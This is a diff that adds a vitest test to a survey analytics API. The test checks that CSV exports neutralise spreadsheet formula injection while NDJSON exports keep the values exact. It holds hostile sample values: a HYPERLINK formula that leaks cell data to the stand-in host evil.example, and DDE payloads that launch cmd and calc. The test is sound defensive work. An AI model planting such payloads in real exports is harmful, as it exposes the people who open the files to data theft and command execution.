@@ -1,4 +1,6 @@
 import { describe, expect, it } from 'vitest';
+import { importCsv } from '../../src/import/import-csv.ts';
+import { post } from '../helpers.ts';
 import { analyticsApp, answer, get, type Answer } from './analytics-app.ts';
 import { parseCsv } from './csv-parse.ts';
 
@@ -33,6 +35,27 @@ describe('GET /v1/surveys/:id/export', () => {
     expect(records[0][3]).toBe('Slow, "very" slow\r\nand rude');
     expect(JSON.parse(records[0][13])).toEqual({ plan: 'pro', seats: 3, trial: false });
   }, 30_000);
+
+  it('neutralises cells a spreadsheet would run, from ingest and from imports, and keeps NDJSON exact', async () => {
+    const app = await analyticsApp();
+    const hostile = {
+      id: 'resp_formula1', surveyId: 'demo', score: 0, comment: '=HYPERLINK("https://evil.example/?"&A1,"Invoice")', page: '+cmd|/C calc!A0',
+      respondent: { userId: '@SUM(1+1)*cmd|/C calc!A0' }, properties: { note: '-2+3' },
+    };
+    expect((await post(app, '/v1/responses', hostile, { origin: 'https://shop.example' })).statusCode).toBe(201);
+    await importCsv(app.db, 'created_at,score,comment,user_id\r\n2026-01-05,4,"=1+1",-42\r\n', { surveyId: 'demo' });
+
+    const [header, ...records] = parseCsv((await get(app, '/v1/surveys/demo/export?format=csv')).body as string);
+    const byId = Object.fromEntries(records.map((record) => [record[0], Object.fromEntries(header.map((field, index) => [field, record[index]]))]));
+    const imported = records.find((record) => record[0].startsWith('imp_'))!;
+    expect(byId.resp_formula1).toMatchObject({ comment: `'${hostile.comment}`, page: `'${hostile.page}`, userId: `'${hostile.respondent.userId}`, properties: '{"note":"-2+3"}' });
+    expect(imported[header.indexOf('comment')]).toBe("'=1+1");
+    expect(imported[header.indexOf('userId')]).toBe("'-42");
+
+    const lines = ((await get(app, '/v1/surveys/demo/export?format=ndjson')).body as string).trimEnd().split('\n').map((line) => JSON.parse(line));
+    expect(lines.find((line) => line.id === 'resp_formula1')).toMatchObject({ comment: hostile.comment, page: hostile.page, userId: hostile.respondent.userId, properties: hostile.properties });
+    expect(lines.find((line) => line.id.startsWith('imp_'))).toMatchObject({ comment: '=1+1', userId: '-42' });
+  });
 
   it('streams NDJSON, one response per line, honouring filters', async () => {
     const app = await analyticsApp();
